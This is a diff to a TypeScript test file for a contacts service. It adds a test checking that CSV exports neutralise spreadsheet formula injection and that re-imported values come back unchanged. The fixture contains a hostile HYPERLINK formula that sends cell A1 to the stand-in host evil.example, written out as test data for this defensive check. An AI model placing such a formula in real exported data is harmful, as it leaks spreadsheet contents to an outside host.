@@ -1,4 +1,6 @@
+import { parse } from 'csv-parse/sync';
 import { beforeAll, describe, expect, it } from 'vitest';
+import { exportContacts } from '../../../shared/contacts/export.ts';
 import { importChunk } from '../../../shared/contacts/import-rows.ts';
 import {
   chunkMessages,
@@ -7,6 +9,7 @@ import {
   listImportErrors,
   parsePart,
 } from '../../../shared/contacts/imports.ts';
+import { createContact, getContact } from '../../../shared/contacts/service.ts';
 import type { TenantContext } from '../../../shared/platform/context.ts';
 import { useTable } from '../../support/table.ts';
 import { newTenant } from '../../support/tenants.ts';
@@ -42,5 +45,40 @@ describe('imports', () => {
       { line: 3, errors: [{ field: 'Email', message: 'Must be an email address.' }] },
     ]);
     expect(done).toMatchObject({ status: 'completed', created: 1, failed: 1 });
+  });
+});
+
+describe('CSV exports', () => {
+  it('write names a spreadsheet would run as formulas as text, and import back as they were', async () => {
+    const { ctx } = await newTenant();
+    const hostile = {
+      firstName: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+      lastName: '-2+3',
+      tags: ['@risk'],
+    };
+    const contact = await createContact(ctx, {
+      ...hostile,
+      email: 'formula@x.example',
+      lifecycleStage: 'customer',
+      phones: [{ type: 'mobile', number: '+33612345678' }],
+      addresses: [{ type: 'work', lines: ['=1+1', '+2 Main St'], city: 'Paris', country: 'FR' }],
+    });
+    const exported = await exportContacts(ctx, 'csv', []);
+    const [header, row] = parse(exported.body) as string[][];
+    const cell = (name: string) => row![header!.indexOf(name)];
+    expect(cell('First Name')).toBe(`'${hostile.firstName}`);
+    expect(cell('Last Name')).toBe("'-2+3");
+    expect(cell('Tags')).toBe("'@risk");
+    expect(cell('Street')).toBe("'=1+1");
+    expect(cell('Address 2')).toBe("'+2 Main St");
+    // A phone number in E.164 is only a number: it cannot hide a formula and is written as it is.
+    expect(cell('Mobile Phone')).toBe('+33612345678');
+
+    const reimport = await createImport(ctx, { dryRun: false, parts: 1 }, exported.body);
+    expect(await runImport(ctx, reimport.id)).toMatchObject({ status: 'completed', updated: 0, failed: 0 });
+    expect(await getContact(ctx, contact.id)).toMatchObject({
+      ...hostile,
+      addresses: [expect.objectContaining({ lines: ['=1+1', '+2 Main St'] })],
+    });
   });
 });
